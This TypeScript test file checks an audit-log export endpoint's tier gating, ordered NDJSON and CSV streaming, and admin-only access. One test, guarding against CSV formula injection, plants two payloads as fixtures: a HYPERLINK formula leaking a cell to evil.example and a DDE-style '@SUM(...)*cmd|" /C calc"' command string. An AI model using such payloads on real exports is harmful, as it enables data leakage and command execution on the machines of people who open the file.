import { enterOrganization, Organization } from '@strictops/db';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, signUp } from './test-app.ts';

let t: Awaited<ReturnType<typeof createTestApp>>;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

async function organizationOf(token: string) {
  const me = await t.app.inject({ method: 'GET', url: '/auth/me', headers: { authorization: `Bearer ${token}` } });
  return me.json().activeOrganization.id as string;
}

describe('GET /audit-events/export', () => {
  it('is refused on tiers without audit export', async () => {
    const user = await signUp(t.app, 'export-free');
    const response = await t.app.inject({
      method: 'GET',
      url: '/audit-events/export',
      headers: { authorization: `Bearer ${user.token}` },
    });
    expect(response.statusCode).toBe(402);
    expect(response.json().data.errorCode).toBe('FEATURE_NOT_IN_TIER');
  });

  it('streams a large log as NDJSON or CSV, in order', async () => {
    const user = await signUp(t.app, 'export-pro');
    const organizationId = await organizationOf(user.token);
    await t.orm.em.fork().nativeUpdate(Organization, { id: organizationId }, { tier: 'PROFESSIONAL' });
    const bulk = 4_500;
    // Fill the log straight in SQL (as the owner: the application role may only append one by one).
    await t.orm.em.fork().transactional(async (em) => {
      await enterOrganization(em, organizationId);
      await em.execute('set local role postgres');
      await em.execute(
        `insert into "audit_event" (id, organization_id, occurred_at, actor_type, actor_id, actor_display, action,
                                    target_type, target_id, outcome, hash)
         select gen_random_uuid(), ?, now(), 'system', 'bulk', 'bulk', 'bulk.event', 'thing', n::text, 'success', md5(n::text)
           from generate_series(1, ${bulk}) as n`,
        [organizationId],
      );
    });
    const auth = { authorization: `Bearer ${user.token}` };

    const ndjson = await t.app.inject({ method: 'GET', url: '/audit-events/export?format=ndjson', headers: auth });
    expect(ndjson.statusCode).toBe(200);
    expect(ndjson.headers['content-type']).toContain('application/x-ndjson');
    const lines = ndjson.body
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines).toHaveLength(bulk + 1);
    expect(lines[0].action).toBe('organization.created');
    const seqs = lines.map((line) => Number(line.seq));
    expect(seqs).toEqual([...seqs].sort((a, b) => a - b));

    const csv = await t.app.inject({ method: 'GET', url: '/audit-events/export?format=csv', headers: auth });
    expect(csv.headers['content-type']).toContain('text/csv');
    const rows = csv.body.trimEnd().split('\n');
    expect(rows[0]).toMatch(/^seq,id,occurred_at,/);
    expect(rows).toHaveLength(bulk + 2);
  });

  // Guards against CSV formula injection: a name or user agent a spreadsheet would run as a
  // formula must open as text (OWASP: a leading quote on cells starting with = + - @ tab or CR).
  it('neutralises every cell a spreadsheet would read as a formula', async () => {
    const user = await signUp(t.app, 'export-formula');
    const organizationId = await organizationOf(user.token);
    await t.orm.em.fork().nativeUpdate(Organization, { id: organizationId }, { tier: 'PROFESSIONAL' });
    const auth = { authorization: `Bearer ${user.token}` };
    const project = await t.app.inject({
      method: 'POST',
      url: '/projects',
      headers: { ...auth, 'user-agent': '@SUM(1+1)*cmd|" /C calc"!A0' },
      payload: { name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', slug: 'formula' },
    });
    expect(project.statusCode).toBe(200);
    const starts = ['=', '+', '-', '@', '\t', '\r'];
    await t.orm.em.fork().transactional(async (em) => {
      await enterOrganization(em, organizationId);
      await em.execute('set local role postgres');
      for (const [n, start] of starts.entries()) {
        await em.execute(
          `insert into "audit_event" (id, organization_id, occurred_at, actor_type, actor_id, actor_display, action,
                                      target_type, target_id, target_display, outcome, hash)
           values (gen_random_uuid(), ?, now(), 'system', 'formula', 'formula', 'formula.test', 'thing', ?, ?, 'success', 'x')`,
          [organizationId, String(n), `${start}1+2`],
        );
      }
    });

    const csv = await t.app.inject({ method: 'GET', url: '/audit-events/export?format=csv', headers: auth });
    expect(csv.statusCode).toBe(200);
    const [header = [], ...rows] = parseCsv(csv.body);
    const column = (name: string) => header.indexOf(name);
    const created = rows.find((row) => row[column('action')] === 'project.created');
    expect(created?.[column('target_display')]).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`);
    expect(created?.[column('user_agent')]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    const injected = rows.filter((row) => row[column('action')] === 'formula.test');
    expect(injected.map((row) => row[column('target_display')])).toEqual(starts.map((start) => `'${start}1+2`));
    // No cell of the whole file starts a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('needs a signed-in admin', async () => {
    expect((await t.app.inject({ method: 'GET', url: '/audit-events/export' })).statusCode).toBe(401);
  });
});

/** RFC 4180: quoted cells may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else cell += c;
  }
  return rows;
}
